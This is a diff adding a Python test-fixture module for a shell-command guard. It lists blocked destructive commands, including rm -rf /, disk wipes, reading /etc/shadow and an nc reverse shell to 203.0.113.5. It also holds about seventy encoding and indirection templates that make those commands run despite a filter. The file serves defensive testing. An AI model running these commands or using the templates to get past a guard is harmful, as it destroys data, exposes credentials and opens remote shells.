@@ -1,0 +1,146 @@
+"""Other ways to write a command: each of these runs the same as the command itself."""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import json
+import shlex
+
+#: Commands that are stopped as they stand: plain words without quotes, variables or pipes.
+HARMFUL = (
+    "rm -rf /",
+    "rm -rf .git",
+    "dd if=/dev/zero of=/dev/sda",
+    "mkfs.ext4 /dev/sda1",
+    "cat /etc/shadow",
+    "git push --force origin main",
+    "git reset --hard",
+    "git clean -fdx",
+    "chmod -R 777 /",
+    "ufw disable",
+    "kubectl delete namespace production",
+    "terraform destroy -auto-approve",
+    "aws s3 rb --force s3://acme-prod",
+    "dropdb production",
+    "npm publish",
+    "crontab -r",
+    "shutdown -h now",
+    "nc -e /bin/sh 203.0.113.5 4444",
+    "docker volume rm pgdata",
+    "redis-cli FLUSHALL",
+)
+
+#: Templates over the fields of `fields_of`.
+SHELL = {
+    "$0": "$0 -c {quoted}",
+    "an ANSI-C text": "bash -c $'{hexed}'",
+    "echo -e": "echo -e '{hexed}' | sh",
+    "echo -e with octal numbers": "echo -e '{zero_octal}' | bash",
+    "printf %b": "printf '%b' '{zero_octal}' | bash",
+    "printf -v": "printf -v c '%s%s' {first_half} {second_half}; eval \"$c\"",
+    "a variable in two parts": 'a={first_half}; a+={second_half}; eval "$a"',
+    "a slice": 's={framed}; eval "${{s:2:{length}}}"',
+    "a prefix and a suffix": 's={framed}; s=${{s#XX}}; eval "${{s%YY}}"',
+    "a replacement": 's={noisy}; eval "${{s//@/}}"',
+    "swapped case": 's={swapped}; eval "${{s~~}}"',
+    "escapes that are expanded": "s='{hexed}'; eval \"${{s@E}}\"",
+    "an array": 'a=({plain}); "${{a[@]}}"',
+    "an array that is read": 'IFS=_ read -ra c <<< {joined}; "${{c[@]}}"',
+    "separators": "IFS=_; c={joined}; $c",
+    "a reference": 'c={quoted}; n=c; eval "${{!n}}"',
+    "arguments": 'set -- {plain}; "$@"',
+    "a function of arguments": 'run() {{ "$@"; }}; run {plain}',
+    "lines": 'while read -r l; do eval "$l"; done <<< {quoted}',
+    "a remembered path": "hash -p /bin/{program} zz; zz {rest}",
+    "a path that is looked up": "$(command -v {program}) {rest}",
+    "a program in a variable": "c={program}; $c {rest}",
+    "xargs": "echo {quoted_rest} | xargs {program}",
+    "xargs from a file": "xargs -a <(echo {quoted_rest}) {program}",
+    "find": "find . -maxdepth 0 -exec {plain} \\;",
+    "a coprocess": "coproc {{ {plain}; }}",
+    "a named coprocess": "coproc X {{ {plain}; }}; wait",
+    "a file descriptor": "bash /dev/fd/3 3<<< {quoted}",
+    "dd": "echo {quoted} | dd of=/tmp/x.sh; sh /tmp/x.sh",
+    "install": "install -m 755 /dev/stdin /tmp/x.sh <<< {quoted}; sh /tmp/x.sh",
+    "rev": "rev <<< {backwards} | sh",
+    "rot13": "echo {rotated} | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
+    "sed": "echo {noisy} | sed 's/@//g' | sh",
+    "jq": "jq -r .c <<< {as_json} | sh",
+    "awk": "awk 'BEGIN{{print ARGV[1]}}' {quoted} | sh",
+    "characters of awk": "awk 'BEGIN{{printf \"{percent_c}\", {numbers}}}' | sh",
+    "an argument of Python": "python3 -c 'import os,sys; os.system(sys.argv[1])' {quoted}",
+    "arguments of Python": "python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' {plain}",
+    "an argument of a script": "python3 - {quoted} <<'E'\nimport os, sys\nos.system(sys.argv[1])\nE",
+    "a variable of Python": "C={quoted} python3 -c 'import os; os.system(os.environ[\"C\"])'",
+    "an argument of Node": "node -e 'require(\"child_process\").execSync(process.argv[1])' {quoted}",
+    "a variable of Node": "C={quoted} node -e 'require(\"child_process\").execSync(process.env.C)'",
+    "an argument of Ruby": "ruby -e 'system(ARGV[0])' {quoted}",
+    "an argument of Perl": "perl -e 'system($ARGV[0])' {quoted}",
+    "an argument of PHP": "php -r 'system($argv[1]);' {quoted}",
+}
+
+PYTHON = {
+    "getattr": "import os\ngetattr(os, 'sys' + 'tem')({text})",
+    "importlib": "import importlib\nimportlib.import_module('os').system({text})",
+    "exec": "exec('import os; os.system(' + repr({text}) + ')')",
+    "base64": "import base64, os\nos.system(base64.b64decode({encoded!r}).decode())",
+    "rot13": "import codecs, os\nos.system(codecs.decode({turned!r}, 'rot13'))",
+    "numbers": "import os\nos.system(''.join(map(chr, [{numbers}])))",
+    "a template": "import os, string\nos.system(string.Template('$a').substitute(a={text}))",
+    "a formatter": "import os, string\nos.system(string.Formatter().format('{{}}', {text}))",
+    "a pattern": "import os, re\nos.system(re.sub('_', ' ', {underlined!r}))",
+    "an address": "import os\nfrom urllib.parse import unquote\nos.system(unquote({percent!r}))",
+    "entities": "import html, os\nos.system(html.unescape({entities!r}))",
+    "a literal": "import ast, os\nos.system(ast.literal_eval(repr({text})))",
+    "reduce": "import functools, os\nos.system(functools.reduce(lambda a, b: a + b, list({text})))",
+    "chain": "import itertools, os\nos.system(''.join(itertools.chain({text})))",
+    "next": "import os\nos.system(next(iter([{text}])))",
+    "a queue": "import collections, os\nos.system(collections.deque([{text}]).popleft())",
+    "a namespace": "import os, types\nos.system(types.SimpleNamespace(c={text}).c)",
+    "the environment": "import os\nos.environ['C'] = {text}\nos.system(os.environ['C'])",
+    "a default": "import os\nos.system(os.environ.get('UNSET', {text}))",
+    "the rest of a list": "import os\nf, *c = [os.system, {text}]\nf(*c)",
+    "a sort key": "import os\nsorted([{text}], key=os.system)",
+    "methodcaller": "import operator, os\noperator.methodcaller('system', {text})(os)",
+    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)({text})",
+    "pexpect": "import pexpect\npexpect.spawn('bash', ['-c', {text}])",
+    "a console": "import code\ncode.InteractiveConsole().push('import os; os.system(' + repr({text}) + ')')",
+    "a magic": "get_ipython().run_cell_magic('bash', '', {text})",
+    "a line of a notebook": "x = 1\n!{plain}\nprint(x)",
+    "a cell of a notebook": "%%bash\n{plain}",
+}
+
+
+def fields_of(command: str) -> dict[str, str | int]:
+    """Return the parts and spellings of a command that templates use."""
+    program, _, rest = command.partition(" ")
+    half = len(command) // 2
+    turned = codecs.encode(command, "rot13")
+    return {
+        "plain": command,
+        "program": program,
+        "rest": rest,
+        "quoted_rest": shlex.quote(rest),
+        "length": len(command),
+        "quoted": shlex.quote(command),
+        "first_half": shlex.quote(command[:half]),
+        "second_half": shlex.quote(command[half:]),
+        "framed": shlex.quote(f"XX{command}YY"),
+        "noisy": shlex.quote("".join(f"{char}@" for char in command)),
+        "swapped": shlex.quote(command.swapcase()),
+        "joined": shlex.quote(command.replace(" ", "_")),
+        "backwards": shlex.quote(command[::-1]),
+        "rotated": shlex.quote(turned),
+        "turned": turned,
+        "as_json": shlex.quote(json.dumps({"c": command})),
+        "hexed": "".join(f"\\x{byte:02x}" for byte in command.encode()),
+        "zero_octal": "".join(f"\\0{byte:03o}" for byte in command.encode()),
+        "percent_c": "%c" * len(command),
+        "numbers": ", ".join(str(byte) for byte in command.encode()),
+        "text": repr(command),
+        "encoded": base64.b64encode(command.encode()).decode(),
+        "underlined": command.replace(" ", "_"),
+        "percent": "".join(f"%{byte:02x}" for byte in command.encode()),
+        "entities": "".join(f"&#{byte};" for byte in command.encode()),
+    }
